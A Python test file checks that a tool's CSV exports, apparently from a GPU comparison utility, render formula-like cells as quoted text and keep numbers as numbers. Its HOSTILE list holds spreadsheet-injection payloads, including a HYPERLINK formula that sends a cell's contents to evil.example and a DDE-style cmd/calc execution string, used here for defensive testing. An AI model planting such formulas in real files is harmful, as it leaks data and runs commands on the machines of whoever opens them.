"""CSV written for spreadsheets: a cell that starts like a formula (=, +, -, @, tab, CR) is text, a
number stays a number (issue 45): `export --requests -f csv` and `compare -f csv`."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from gpuparity.validate import spreadsheet_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1"]


def test_export_requests_csv_writes_a_servers_text_as_text_and_numbers_as_numbers():
    from gpuparity.cli.export import _csv

    rows = [{"run_id": "r", "i": i, "error": text, "ttft_us": -5 if i == 0 else 1250.5, "itl_us": [10, 20],
             "note": "-5"} for i, text in enumerate(HOSTILE)]
    got = list(csv.DictReader(io.StringIO(_csv(rows), newline="")))
    for row, text in zip(got, HOSTILE, strict=True):
        assert row["error"] == "'" + text.replace("\r", "\n")     # text: never evaluated, its row whole
    assert got[0]["ttft_us"] == "-5" and got[1]["ttft_us"] == "1250.5" and got[0]["note"] == "-5"
    assert got[0]["itl_us"] == "10 20"


def test_compare_csv_cells_are_text_or_numbers(capsys):
    from gpuparity.cli.compare import write_csv

    write_csv([{"case": "=cmd()", "ratio": -0.25, "note": "@x", "params": {"m": "=1"}, "label": "a\r=1+1"}])
    (header, row), = [list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))]
    assert header == ["case", "ratio", "note", "params", "label"]
    assert row == ["'=cmd()", "-0.25", "'@x", '{"m": "=1"}', "a\n=1+1"]     # a CR cannot start a row of its own


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=20), st.integers(), st.floats(allow_nan=False),
                 st.from_regex(r"[=+\-@\t\r][0-9.eE+\-]{0,8}", fullmatch=True)))
def test_no_cell_a_spreadsheet_could_run_and_nothing_else_changed(value):
    cell = spreadsheet_safe(value)
    if not isinstance(value, str):
        assert cell is value                                # a number is written as that number
        return
    text = value.replace("\r\n", "\n").replace("\r", "\n")     # a CR: a line break inside the cell
    if cell != text:
        assert cell == "'" + text and text[:1] in "=+-@\t\n"
    elif text[:1] in ("=", "+", "-", "@", "\t", "\n"):
        float(text)                                         # left as it is: a plain number
    # written and read back by the csv module: one row, this very cell
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(["a", cell, "b"])
    assert list(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == [["a", cell, "b"]]
